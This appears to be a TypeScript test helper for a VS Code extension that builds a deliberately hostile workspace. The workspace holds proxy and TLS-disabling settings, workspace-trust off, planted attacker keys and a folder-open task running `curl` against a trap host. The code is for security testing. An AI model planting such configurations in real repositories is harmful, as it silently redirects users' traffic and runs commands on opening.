/** What somebody could put into a repository to get at whoever opens it with this extension installed. */
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import * as z from 'zod/mini';

const Manifest = z.object({
  contributes: z.object({
    configuration: z.object({
      properties: z.record(
        z.string(),
        z.object({
          type: z.string(),
          default: z.unknown(),
          minimum: z.optional(z.number()),
          enum: z.optional(z.array(z.string())),
        }),
      ),
    }),
  }),
});
type Property = z.infer<typeof Manifest>['contributes']['configuration']['properties'][string];

/** Some value that the setting could have, and does not have by default. */
const otherValue = ({ type, default: usual, minimum, enum: values }: Property, trap: string): unknown => {
  if (type === 'boolean') return usual !== true;
  if (type === 'integer' || type === 'number') return minimum ?? 1;
  return values?.find((value) => value !== usual) ?? trap;
};

/** Every setting of the extension with another value than its own. @param manifest path of a package.json */
export const harmfulSettings = async (
  manifest: string,
  trap: string,
): Promise<Readonly<Record<string, unknown>>> => {
  const { contributes } = Manifest.parse(JSON.parse(await readFile(manifest, 'utf8')));
  const entries = Object.entries(contributes.configuration.properties);
  return Object.fromEntries(entries.map(([name, property]) => [name, otherValue(property, trap)]));
};

/** A setting that a workspace may well set: once it is in force, so would be everything else. */
export const harmless = { name: 'editor.tabSize', value: 3 } as const;

/** Settings that do not exist, but might. */
const invented = (trap: string): object =>
  Object.fromEntries(
    ['url', 'origin', 'baseUrl', 'endpoint', 'address', 'proxy', 'http.proxy', 'log.url']
      .map((name): readonly [string, unknown] => [`ecgrid.${name}`, trap])
      .concat([
        ['ecgrid.apiKey', 'attackers-key'],
        ['ecgrid.strictSSL', false],
        ['ecgrid.rejectUnauthorized', false],
        ['ecgrid.profile', 'planted'],
        ['ecgrid.profiles', [{ id: 'planted', name: 'Sandbox', environment: 'production', origin: trap }]],
      ]),
  );

/** Variables that lead Node’s and others’ requests astray. */
const astray = (trap: string): object => ({
  HTTP_PROXY: trap,
  HTTPS_PROXY: trap,
  ALL_PROXY: trap,
  NO_PROXY: '',
  NODE_USE_ENV_PROXY: '1',
  NODE_TLS_REJECT_UNAUTHORIZED: '0',
  ECGRID_SANDBOX_URL: trap,
  ECGRID_SANDBOX_KEY: 'attackers-key',
});

/** VS Code’s own ways to lead requests elsewhere, and to let its guard down. */
const ofVscode = (trap: string): object => ({
  'http.proxy': trap,
  'http.proxySupport': 'override',
  'http.proxyStrictSSL': false,
  'http.proxyAuthorization': 'Basic YXR0YWNrZXI6eA==',
  'http.noProxy': [],
  'http.useLocalProxyConfiguration': false,
  'http.electronFetch': true,
  'http.fetchAdditionalSupport': true,
  'http.systemCertificates': false,
  'remote.extensionKind': { 'ecgrid-users.ecgrid-users': ['workspace'] },
  'remote.SSH.remotePlatform': { [trap]: 'linux' },
  'extensions.supportUntrustedWorkspaces': { 'ecgrid-users.ecgrid-users': { supported: true } },
  'security.workspace.trust.enabled': false,
  'task.allowAutomaticTasks': 'on',
  ...Object.fromEntries(
    ['linux', 'osx', 'windows'].map((system) => [`terminal.integrated.env.${system}`, astray(trap)]),
  ),
});

const json = (content: unknown): string => JSON.stringify(content, undefined, 2);

/**
 * Makes a folder hostile, and writes a workspace file with the same settings into it.
 * @param trap where everything is to be led to
 * @returns the path of the workspace file
 */
export const makeHostile = async (folder: string, manifest: string, trap: string): Promise<string> => {
  const settings = {
    ...(await harmfulSettings(manifest, trap)),
    ...invented(trap),
    ...ofVscode(trap),
    [harmless.name]: harmless.value,
  };
  const task = { label: 'lure', type: 'shell', command: `curl ${trap}`, runOptions: { runOn: 'folderOpen' } };
  const launch = { type: 'node', request: 'attach', name: 'lure', env: astray(trap) };
  const files = {
    settings,
    tasks: { version: '2.0.0', tasks: [task] },
    launch: { version: '0.2.0', configurations: [launch] },
    extensions: {
      recommendations: ['attacker.lure'],
      unwantedRecommendations: ['ecgrid-users.ecgrid-users'],
    },
  };
  await mkdir(join(folder, '.vscode'), { recursive: true });
  for (const [name, content] of Object.entries(files))
    await writeFile(join(folder, '.vscode', `${name}.json`), json(content));
  const file = join(folder, 'hostile.code-workspace');
  await writeFile(file, json({ folders: [{ path: '.' }], settings }));
  return file;
};
